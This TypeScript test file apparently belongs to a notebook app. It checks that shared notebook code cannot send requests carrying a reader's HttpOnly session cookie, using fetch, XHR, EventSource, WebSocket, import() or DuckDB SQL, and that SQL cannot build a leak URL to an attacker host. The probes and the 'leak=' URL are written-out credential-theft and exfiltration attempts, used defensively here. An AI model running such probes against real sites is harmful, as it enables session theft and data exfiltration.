/**
 * Issue 16, item 4: notebook code and the data engine must not act with the
 * site's credentials. The site (the built app on a plain static server, under
 * a sub-path) also answers `whoami` routes that echo the request's cookies,
 * and the reader has an HttpOnly session cookie for it. A shared notebook the
 * reader chose to run *with* network then tries every way a worker has to
 * reach the site: fetch, XMLHttpRequest (async, sync, withCredentials),
 * EventSource, WebSocket, `import()`, and SQL (`read_text`, `read_csv`,
 * DuckDB's own HTTP). None may carry the cookie, and no cell may see it.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Duplex } from 'node:stream';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ensureAppBundle } from '../../src/cli/app-bundle.ts';
import { build } from '../../src/cli/build.ts';
import { createStaticServer, type RunningServer } from '../../src/cli/static-server.ts';
import { encodeShare } from '../../src/store/share.ts';
import { SUB_PATH } from './setup/app.ts';
import { startAttack, type Attack } from './setup/attacker.ts';

const SLOW = 240_000;
vi.setConfig({ testTimeout: SLOW, hookTimeout: SLOW });

const SECRET = 'reader-secret';

let attack: Attack;
let site: RunningServer;
/** Every request to a whoami route: `<path?query> cookie=<Cookie header or none>`. */
const seen: string[] = [];

function record(request: IncomingMessage, relative: string): string {
  const cookie = request.headers.cookie ?? 'none';
  seen.push(`${request.method} ${relative} cookie=${cookie}`);
  return cookie;
}

/** `whoami…` routes of the site: each answers with the cookies it received (CORS closed, as a real site's API). */
function whoami(request: IncomingMessage, response: ServerResponse, relativePath: string): boolean {
  if (!relativePath.startsWith('whoami')) return false;
  const query = (request.url ?? '').split('?')[1] ?? '';
  const cookie = record(request, `${relativePath}?${query}`);
  const [type, body] =
    relativePath === 'whoami.js' ? ['text/javascript', `export default ${JSON.stringify(`cookie ${cookie}`)};`]
    : relativePath === 'whoami.sse' ? ['text/event-stream', `data: cookie ${cookie}\n\n`]
    : relativePath === 'whoami.csv' ? ['text/csv', `cookie\n"${cookie}"\n`]
    : ['text/plain', `cookie ${cookie}`];
  response.writeHead(200, { 'content-type': type });
  response.end(request.method === 'HEAD' ? undefined : body);
  return true;
}

/** A minimal WebSocket endpoint: answers the handshake and sends one text frame with the cookie it got. */
function webSocketWhoami(request: IncomingMessage, socket: Duplex): void {
  const cookie = record(request, `ws ${request.url ?? ''}`);
  const accept = createHash('sha1').update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
  const text = Buffer.from(`cookie ${cookie}`.slice(0, 120));
  socket.write(Buffer.concat([Buffer.from([0x81, text.length]), text]));
  setTimeout(() => socket.destroy(), 1000);
}

beforeAll(async () => {
  attack = await startAttack();
  const dir = mkdtempSync(join(tmpdir(), 'brook-credentials-'));
  writeFileSync(join(dir, 'host.md'), '# Host\n\nThe site the reader is logged in to.\n');
  const out = mkdtempSync(join(tmpdir(), 'brook-credentials-site-'));
  const appDir = process.env.BROOK_APP_DIR ?? (await ensureAppBundle()).dir;
  await build({ input: join(dir, 'host.md'), out, appDir });
  site = await createStaticServer({ root: out, basePath: SUB_PATH, routes: [whoami] }).listen(0, '127.0.0.1');
  site.server.on('upgrade', webSocketWhoami);
}, SLOW);

afterAll(async () => {
  await attack?.close(site);
});

/** A JS cell that reports `label: <what it got>` or `label: failed (<error>)`, never throwing. */
function probe(label: string, expression: string): string {
  const settled = `Promise.race([${expression}, new Promise((_, reject) => setTimeout(() => reject(new Error("no answer in 15 s")), 15000))])`;
  return ['```js', `const ${label} = await (async () => { try { return String(await ${settled}); } catch (error) { return "failed (" + error + ")"; } })()`, '```', ''].join('\n');
}

describe('4: notebook code and SQL do not act with the site’s credentials (network allowed)', () => {
  it('no request from a cell or from SQL carries the reader’s HttpOnly cookie, and no cell sees it', async () => {
    const o = await attack.open(new URL(site.url).origin);
    await o.context.addCookies([{ name: 'session', value: SECRET, url: new URL(site.url).origin, httpOnly: true }]);
    const u = site.url;
    const ws = u.replace(/^http/, 'ws');
    const xhr = (query: string, options: string) =>
      `new Promise((resolve, reject) => { const x = new XMLHttpRequest(); ${options} x.open("GET", "${u}whoami?${query}"); x.onload = () => resolve(x.responseText); x.onerror = () => reject(new Error("xhr error")); x.send(); })`;
    const source = [
      '# Who am I?',
      '',
      probe('fetched', `fetch("${u}whoami?fetch", {credentials: "include"}).then((r) => r.text())`),
      probe('xhrPlain', xhr('xhr', '')),
      probe('xhrCredentials', xhr('xhr-credentials', 'x.withCredentials = true;')),
      probe('xhrSync', `(() => { const x = new XMLHttpRequest(); x.open("GET", "${u}whoami?xhr-sync", false); x.send(); return x.responseText; })()`),
      probe('sse', `new Promise((resolve, reject) => { const s = new EventSource("${u}whoami.sse?sse", {withCredentials: true}); s.onmessage = (e) => { s.close(); resolve(e.data); }; s.onerror = () => { s.close(); reject(new Error("sse error")); }; })`),
      probe('socket', `new Promise((resolve, reject) => { const s = new WebSocket("${ws}whoami-ws"); s.onmessage = (e) => { s.close(); resolve(e.data); }; s.onerror = () => reject(new Error("ws error")); })`),
      probe('imported', `import("${u}whoami.js?import").then((m) => m.default)`),
      '```sql sqlText',
      `SELECT content FROM read_text('${u}whoami?sql-text')`,
      '```',
      '',
      '```sql sqlCsv',
      `SELECT * FROM read_csv('${u}whoami.csv?sql-csv')`,
      '```',
      '',
      '```js',
      '`probes done: ${[fetched, xhrPlain, xhrCredentials, xhrSync, sse, socket, imported].join(" | ")}`',
      '```',
      '',
    ].join('\n');
    await o.page.goto(`${site.url}#/s/${encodeShare({ source, inputs: {} })}`);
    await o.page.getByRole('button', { name: 'Run', exact: true }).click();
    await o.page.getByText(/^probes done: /).waitFor({ timeout: 120_000 }).catch(async (error: unknown) => {
      throw new Error(`${String(error)}\n--- page shows:\n${(await o.page.locator('body').innerText()).slice(0, 3000)}\n--- errors: ${o.errors.join(' | ')}`);
    });
    // Both SQL cells settled (a result or an error).
    await expect.poll(async () => o.page.locator('.cell-error, .table-output').count(), { timeout: 60_000 }).toBeGreaterThanOrEqual(2);
    await o.page.waitForTimeout(1500);

    const shown = await o.page.locator('body').innerText();
    expect(shown, 'a cell saw the cookie').not.toContain(SECRET);
    const withCookie = seen.filter((line) => line.includes(SECRET));
    expect(withCookie, `requests that carried the cookie (all: ${seen.join(' ; ')})`).toEqual([]);
    // The probes did reach the site: what is checked above was really attempted.
    expect(seen.some((line) => line.includes('?fetch'))).toBe(true);
    expect(seen.some((line) => line.startsWith('GET whoami?xhr'))).toBe(true);

    // The page's own requests still carry the cookie (so the check above could have seen one).
    await o.page.evaluate(async (url) => (await fetch(url)).text(), `${u}whoami?page`);
    expect(seen.find((line) => line.includes('?page'))).toContain(SECRET);
  });
});

describe('4: SQL reads only the URLs written in the notebook (network allowed)', () => {
  it('reads a URL written in a SQL cell, and refuses one the SQL builds at run time without a request', async () => {
    const o = await attack.open(new URL(site.url).origin);
    const { attacker } = attack;
    attacker.serve('/declared.csv', 'a,b\n1,2\n3,4\n', 'text/csv');
    const source = [
      '# Remote reads',
      '',
      '```sql declared',
      `SELECT count(*)::INTEGER AS n FROM read_csv('${attacker.origin}/declared.csv')`,
      '```',
      '',
      // The literal prefix is in the text; the URL read is not: a leak channel (`?leak=` + data) must stay shut.
      '```sql built',
      `SELECT content FROM read_text('${attacker.origin}/built' || '.txt?leak=' || 'reader-data')`,
      '```',
      '',
      '```js',
      '`declared rows: ${declared.get(0).n}`',
      '```',
      '',
    ].join('\n');
    await o.page.goto(`${site.url}#/s/${encodeShare({ source, inputs: {} })}`);
    await o.page.getByRole('button', { name: 'Run', exact: true }).click();
    await o.page.getByText('declared rows: 2').waitFor({ timeout: 120_000 });
    const refusal = o.page.locator('.cell-error').filter({ hasText: 'written in the notebook' });
    await refusal.first().waitFor({ timeout: 60_000 });
    // The refusal names the URL it refused.
    expect(await refusal.first().innerText()).toContain(`${attacker.origin}/built.txt?leak=reader-data`);
    expect(attacker.received.some((line) => line.includes('/declared.csv'))).toBe(true);
    expect(attacker.received.filter((line) => line.includes('/built')), 'the built URL reached the attacker').toEqual([]);
  });
});
